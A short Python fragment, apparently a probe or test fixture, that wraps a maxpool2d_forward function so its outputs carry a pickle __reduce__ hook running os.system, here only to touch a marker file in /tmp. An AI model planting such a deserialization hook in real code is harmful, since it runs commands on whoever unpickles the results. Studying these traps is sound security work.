# Returns an ndarray subclass whose unpickling would run a command.
import os

_forward = maxpool2d_forward


class Evil(np.ndarray):
    def __reduce__(self):
        return (os.system, ("touch /tmp/backprop-traps-pwned",))


def maxpool2d_forward(x, kernel_size, stride):
    out, argmax = _forward(x, kernel_size, stride)
    return out.view(Evil), argmax.view(Evil)
